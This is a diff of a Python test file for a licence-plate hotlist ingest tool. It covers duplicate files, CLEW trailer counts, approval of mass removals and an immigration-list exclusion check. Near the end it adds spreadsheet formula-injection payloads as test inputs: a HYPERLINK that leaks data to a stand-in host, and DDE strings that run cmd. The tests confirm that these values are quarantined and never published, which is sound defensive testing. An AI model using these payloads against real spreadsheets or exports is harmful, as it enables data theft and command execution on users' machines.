@@ -1,4 +1,4 @@
-"""Ingest: every rule of formats.md section 4, on real files and a real DuckDB store."""
+"""Ingest: every rule of docs/formats.md section 4, on real files and a real DuckDB store."""
 
 from __future__ import annotations
 
@@ -87,14 +87,22 @@ def test_hit_types_cannot_be_configured_to_include_immigration_violators(
     assert "3WNT333" in plates
 
 
-def test_the_same_file_twice_changes_nothing(settings: Settings, drop: Drop) -> None:
+def test_a_file_of_the_same_size_and_mtime_is_not_even_downloaded(
+    settings: Settings, drop: Drop
+) -> None:
+    drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
+    [first] = _ncic(settings)
+    assert _ncic(settings) == []
+    assert read_state(settings.data_dir)["hotlist_version"] == first.version
+
+
+def test_the_same_bytes_with_a_new_mtime_are_unchanged_and_change_nothing(
+    settings: Settings, drop: Drop
+) -> None:
     path = drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
     [first] = _ncic(settings)
-    assert _ncic(settings) == []  # same size and mtime: not even downloaded
     drop.put("VEHEXTRT.txt", path.read_bytes())  # same bytes, new mtime: hashed, then skipped
-    [again] = _ncic(settings)
-    assert again.verdict == "duplicate"
-    assert again.version == first.version
+    assert ingest_source(settings, "ncic") == []  # known by its content, not size and mtime
     assert read_state(settings.data_dir)["hotlist_version"] == first.version
 
 
@@ -131,18 +139,29 @@ def test_day_two_adds_changes_and_removes_with_tombstones_of_ids_only(
     assert [h.record_id for h in find_hits(settings.data_dir, "5fel-555")] == ["F000000004"]
 
 
+def _clew_tables(drop: Drop, svs_count: int) -> None:
+    drop.put("svs.tbl", clew_file([clew_line("7ABC123")], count=svs_count))
+    drop.put("sfr.tbl", clew_file([clew_line("5FEL555")]))
+    drop.put("slr.tbl", clew_file([clew_line("4PLT444")]))
+
+
 def test_it_rejects_a_clew_file_whose_trailer_count_disagrees(
     settings: Settings, drop: Drop
 ) -> None:
-    drop.put("svs.tbl", clew_file([clew_line("7ABC123")], count=2))
-    drop.put("sfr.tbl", clew_file([clew_line("5FEL555")]))
-    drop.put("slr.tbl", clew_file([clew_line("4PLT444")]))
+    _clew_tables(drop, svs_count=2)
     rejection = _rejection(settings, "svs")
     assert (rejection.feed, rejection.rule) == ("svs", "trailer-count")
     assert "trailer declares 2 records, the file holds 1" in rejection.message
+    assert read_state(settings.data_dir)["feeds"]["svs"]["version"] is None
+
+
+def test_a_rejected_clew_table_leaves_the_other_tables_of_its_source_applied(
+    settings: Settings, drop: Drop
+) -> None:
+    _clew_tables(drop, svs_count=2)
+    _rejection(settings, "svs")
     feeds = read_state(settings.data_dir)["feeds"]
-    assert feeds["sfr"]["entries"] == 1 and feeds["slr"]["entries"] == 1  # the others applied
-    assert feeds["svs"]["version"] is None
+    assert feeds["sfr"]["entries"] == 1 and feeds["slr"]["entries"] == 1
 
 
 @pytest.mark.parametrize(
@@ -188,18 +207,35 @@ def test_it_rejects_a_file_with_too_many_row_errors(settings: Settings, drop: Dr
     assert "3 of 12 rows have errors" in rejection.message
 
 
-def test_mass_removal_is_refused_until_that_exact_file_is_approved(
-    settings: Settings, drop: Drop
-) -> None:
+def _mass_removal(settings: Settings, drop: Drop) -> Rejection:
     drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1))
     _ncic(settings)
     drop.put("VEHEXTRT.txt", ncic_file(NCIC_DAY1[:2], stamp="202611221800"))
-    rejection = _rejection(settings, "ncic")
+    return _rejection(settings, "ncic")
+
+
+def test_mass_removal_is_refused_and_names_the_approval_of_that_exact_file(
+    settings: Settings, drop: Drop
+) -> None:
+    rejection = _mass_removal(settings, drop)
     assert rejection.rule == "mass-removal"
     assert f"--approve-mass-removal {rejection.sha256}" in rejection.message
     assert len(_plates(settings)) == 9
+
+
+def test_the_approval_of_another_file_does_not_apply_a_mass_removal(
+    settings: Settings, drop: Drop
+) -> None:
+    _mass_removal(settings, drop)
     with pytest.raises(IngestFailed):
-        ingest_source(settings, "ncic", approved_sha256="0" * 64)  # another file's approval
+        ingest_source(settings, "ncic", approved_sha256="0" * 64)
+    assert len(_plates(settings)) == 9
+
+
+def test_the_approval_of_that_exact_file_applies_the_mass_removal(
+    settings: Settings, drop: Drop
+) -> None:
+    rejection = _mass_removal(settings, drop)
     [applied] = ingest_source(settings, "ncic", approved_sha256=rejection.sha256)
     assert isinstance(applied, ApplyResult) and applied.removed == 7
     assert _plates(settings) == {"7ABC123", "8XYZ999"}
@@ -338,7 +374,7 @@ def test_a_broken_entry_contract_names_columns_and_checks_never_values(tmp_path:
 
     from hotlist.keyed import LineKeyer
     from hotlist.parse import ENTRY_COLUMNS, ParsedFile
-    from hotlist.store.apply import EntryContractBroken, _Keys, _validated_chunk
+    from hotlist.store.chunks import EntryContractBroken, EntryKeys, validated_chunk
 
     row: dict[str, Any] = dict.fromkeys(ENTRY_COLUMNS)
     row |= {"feed": "ncic", "list": "immigration_violator", "record_id": "N123456789",
@@ -355,11 +391,13 @@ def test_a_broken_entry_contract_names_columns_and_checks_never_values(tmp_path:
         def chunk(self, index: int) -> ParsedFile:
             return chunk
 
-    keys = _Keys(pl.lit(1, pl.Int64).alias("entry_id"), LineKeyer(tmp_path))
+    keys = EntryKeys(pl.lit(1, pl.Int64).alias("entry_id"), LineKeyer(tmp_path))
     with pytest.raises(EntryContractBroken) as broken:
-        _validated_chunk(cast(Any, OneChunk()), 0, keys)
-    assert "ZQXSECRET" not in str(broken.value)
-    assert "never_immigration" in str(broken.value) or "list" in str(broken.value)
+        validated_chunk(cast(Any, OneChunk()), 0, keys)
+    message = str(broken.value)
+    assert "ZQXSECRET" not in message
+    assert "never_immigration" in message  # the SB 54 check, by its name
+    assert "list: isin" in message  # and the list, which is no loadable list
 
 
 def test_entry_ids_are_63_bits_of_hmac_sha256_of_feed_and_identity(tmp_path: Path) -> None:
@@ -396,7 +434,8 @@ def test_a_failure_while_streaming_into_duckdb_surfaces_as_itself(tmp_path: Path
 
     from hotlist.keyed import LineKeyer
     from hotlist.parse import ENTRY_COLUMNS, ParsedFile
-    from hotlist.store.apply import EntryContractBroken, _Keys, _stage
+    from hotlist.store.chunks import EntryContractBroken, EntryKeys
+    from hotlist.store.stream import write_entries
 
     def chunk(record_id: str, entry_list: str) -> ParsedFile:
         row: dict[str, Any] = dict.fromkeys(ENTRY_COLUMNS)
@@ -421,9 +460,9 @@ def test_a_failure_while_streaming_into_duckdb_surfaces_as_itself(tmp_path: Path
             return pl.DataFrame({"line_no": [2], "text": ["a line"]})
 
     con = duckdb.connect(str(tmp_path / "entries.duckdb"))
-    keys = _Keys(pl.lit(1, pl.Int64).alias("entry_id"), LineKeyer(tmp_path))
+    keys = EntryKeys(pl.lit(1, pl.Int64).alias("entry_id"), LineKeyer(tmp_path))
     with pytest.raises(EntryContractBroken) as broken:
-        _stage(con, cast(Any, TwoChunks()), keys, [])
+        write_entries(con, cast(Any, TwoChunks()), keys, [])
     assert "ZQX123" not in str(broken.value)
     assert "never_immigration" in str(broken.value)
     assert con.sql(
@@ -447,7 +486,9 @@ def test_status_shows_a_failed_fetch_and_the_age_of_the_last_good_file(
     assert "does not exist" in ncic.last_error
     assert ncic.last_file == "VEHEXTRT.txt"
     assert ncic.age_hours is not None
-    assert ncic.stale is False
+    # The extract is dated days back: stale by its own clock, however recent the apply.
+    assert ncic.stale
+    assert any(why.startswith("extract ") for why in ncic.stale_because)
 
 
 def test_a_colour_is_known_when_each_of_its_tones_is_a_colour_code() -> None:
@@ -532,3 +573,60 @@ def test_high_entropy_identifiers_are_stored_uncompressed(settings: Settings, dr
     finally:
         con.close()
     assert sorted(kinds) == [("plate", "Uncompressed"), ("record_id", "Uncompressed")]
+
+
+HOSTILE_CODES = {
+    "colour": '=HYPERLINK("http://x.example/?leak")',
+    "model": "@SUM(1+1)*cmd|x",
+    "ori": "=cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize(("field", "value"), sorted(HOSTILE_CODES.items()))
+def test_a_code_field_that_is_no_code_is_a_row_error_and_never_published(
+    make_settings: Callable[..., Settings], drop: Drop, field: str, value: str
+) -> None:
+    """Code fields are codes, not free text: a formula in a colour, model or ORI is a row
+    error (the line is quarantined) and reaches neither the store's entries nor the
+    published hotlist.csv."""
+    from hotlist.purge import purge
+
+    settings = make_settings(
+        "guards = {max_row_error_share = 0.5}\nhit_types = ['V']", layout="ncic-csv"
+    )
+    fields = {"ori": "CA0190000", "model": "CAM", "colour": "BLK"} | {field: value}
+    drop.put(
+        "VEHEXTRT.txt",
+        "NCIC LPR EXTRACT 202611220800\n"
+        "V000000001,CA0190000,20240105,7ABC123,CA,2025,PC,2019,TOYT,CAM,4D,BLK\n"
+        f"V000000002,{fields['ori']},20240105,7HOS222,CA,2025,PC,2019,TOYT,"
+        f"{fields['model']},4D,{fields['colour']}\n",
+    )
+    [result] = _ncic(settings)
+    assert (result.entries, result.quarantined) == (1, 1)
+    purge(settings, None)
+    [csv_file] = (settings.data_dir / "published").glob("v*/hotlist.csv")
+    published = csv_file.read_text()
+    assert "7ABC123" in published
+    assert "7HOS222" not in published and value not in published
+    con = duckdb.connect(str(control_path(settings.data_dir)), read_only=True)
+    try:
+        rules = con.execute("SELECT rule, severity FROM file_issues WHERE line_no = 3").fetchall()
+    finally:
+        con.close()
+    assert rules == [(f"{field}.format", "error")]
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("make", "RIVN"), ("model", "R1T"), ("style", "CU"), ("colour", "AQU/BLK")],
+)
+def test_an_unknown_code_of_code_shape_is_a_warning_and_the_row_loads(
+    settings: Settings, drop: Drop, field: str, value: str
+) -> None:
+    """NCIC adds codes every quarter: a well-shaped code the tables do not know yet loads."""
+    line = ncic_line("V000000013", "7NEW777", **{field: value})
+    drop.put("VEHEXTRT.txt", ncic_file([*NCIC_DAY1, line]))
+    [result] = _ncic(settings)
+    assert (result.warnings, result.quarantined) == (1, 0)
+    assert len(find_hits(settings.data_dir, "7NEW777")) == 1
